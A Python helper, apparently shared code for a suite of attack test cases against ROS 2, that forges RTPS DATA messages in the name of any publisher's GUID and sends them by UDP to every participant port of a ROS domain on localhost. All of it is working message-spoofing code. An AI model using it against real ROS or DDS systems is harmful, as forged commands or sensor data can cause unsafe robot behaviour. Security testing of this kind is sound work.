# Put before the text of an attack that says `uses_rtps` in its expected.toml: RTPS as datagrams, in anybody's name.
# Source: DDSI-RTPS 2.2, 9.4.5.3 and 9.6.1.
import os
import socket
import struct
import time

PARTICIPANTS = 12  # of a domain, whose ports are tried


def data_message(writer, number, payload):
    """An RTPS message with one sample, as CDR, in the name of the writer with a GUID."""
    now = time.time()
    stamp = struct.pack("<BBHII", 0x09, 0x01, 8, int(now), int(now % 1 * 2**32))
    body = struct.pack("<HH", 0, 16) + bytes(4) + writer[12:16] + struct.pack("<iI", 0, number) + payload
    header = b"RTPS" + bytes((2, 2, 1, 15)) + writer[:12]
    return header + stamp + struct.pack("<BBH", 0x15, 0x05, len(body)) + body


def send_to_all(message):
    """Send a datagram to every participant of the domain."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as some:
        for participant in range(PARTICIPANTS):
            port = 7400 + 250 * int(os.environ["ROS_DOMAIN_ID"]) + 11 + 2 * participant
            some.sendto(message, ("127.0.0.1", port))


def writer_of(node, topic):
    """The GUID of a publisher on a topic, None if there is none."""
    return next((bytes(info.endpoint_gid[:16]) for info in node.get_publishers_info_by_topic(topic)), None)
